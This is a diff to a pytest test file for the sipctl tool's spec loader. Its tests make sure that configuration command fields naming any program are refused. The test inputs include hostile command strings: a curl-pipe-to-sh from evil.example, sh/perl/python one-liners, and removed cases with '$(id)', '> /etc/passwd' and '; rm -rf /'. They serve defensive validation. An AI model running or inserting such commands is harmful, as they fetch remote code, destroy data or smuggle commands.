@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import json
+
 import pytest
+import yaml
 
 from sipctl.errors import SpecError
 from sipctl.schemas.checks import cross_warnings
 from sipctl.schemas.loader import load_spec_text
-from sipctl.schemas.values import split_command
 
 BASE = "version: 1\ndomain: mysite.ru\n"
 
@@ -81,32 +83,47 @@ def test_a_very_wide_ignoreip_is_a_warning() -> None:
     "command",
     [
         "curl https://evil.example/x | sh; asterisk",
-        "asterisk && reboot",
-        "asterisk $(id)",
-        "asterisk `id`",
-        "asterisk > /etc/passwd",
-        "asterisk < /dev/zero",
-        "(asterisk)",
-        "{ asterisk; }",
-        "asterisk &",
+        "sh -c 'touch /tmp/pwned' x",
+        "python3 -c 'import os'",
+        "perl -e 'system q(id)'",
+        "env sh",
+        "docker exec pbx asterisk",
+        "asterisk",
         "'unbalanced",
         "   ",
     ],
 )
 @pytest.mark.parametrize("key", ["asterisk:\n  command", "fail2ban:\n  command"])
-def test_a_command_with_shell_syntax_is_refused_naming_the_key(key: str, command: str) -> None:
-    quoted = '"' + command.replace("\\", "\\\\").replace('"', '\\"') + '"'
-    problems = refused(f"{key}: {quoted}\n")
+def test_a_spec_that_names_any_program_is_refused_naming_the_key(key: str, command: str) -> None:
+    """Not only shell syntax: any program at all (an interpreter is a shell) is the host's."""
+    problems = refused(f"{key}: {json.dumps(command)}\n")
     section = key.split(":")[0]
-    assert f"s.yaml:4:3: {section}.command:" in problems, problems
+    assert f"s.yaml:4:3: {section}.command: a spec no longer names a program" in problems
 
 
 def test_dns_reload_command_follows_the_same_rule() -> None:
-    extra = "dns:\n  provider: zonefile\n  file: z\n  reload_command: rndc reload; rm -rf /\n"
-    assert "dns.reload_command: " in refused(extra)
+    extra = "dns:\n  provider: zonefile\n  file: z\n  reload_command: rndc reload mysite.ru\n"
+    problems = refused(extra)
+    assert "s.yaml:6:3: dns.reload_command: a spec no longer names a program" in problems
+    assert 'zone_reload:\n      default: ["rndc", "reload", "mysite.ru"]' in problems
 
 
-def test_a_command_is_split_once_into_words() -> None:
-    loaded = load_spec_text(BASE + "asterisk:\n  command: docker exec 'my pbx' asterisk\n")
-    assert loaded.spec.asterisk is not None
-    assert split_command(loaded.spec.asterisk.command) == ("docker", "exec", "my pbx", "asterisk")
+def test_the_migration_message_gives_the_yaml_to_paste() -> None:
+    problems = refused("asterisk:\n  command: docker exec 'my pbx' asterisk\n")
+    pasted = problems.split("not writable by others):\n", 1)[1].split("\nthen delete", 1)[0]
+    assert yaml.safe_load(pasted) == {
+        "version": 1,
+        "asterisk": {"default": ["docker", "exec", "my pbx", "asterisk"]},
+    }
+    assert "/etc/sipctl/host.yaml" in problems and "asterisk.program: NAME" in problems
+
+
+def test_the_stock_program_is_simply_deleted() -> None:
+    problems = refused("fail2ban:\n  command: fail2ban-client\n")
+    assert "'fail2ban-client' is the stock program" in problems
+
+
+@pytest.mark.parametrize("name", ["../x", "Default", "sh -c id", "/bin/sh", ""])
+def test_a_program_entry_is_a_name_never_a_program(name: str) -> None:
+    problems = refused(f"asterisk:\n  program: {json.dumps(name)}\n")
+    assert "asterisk.program:" in problems
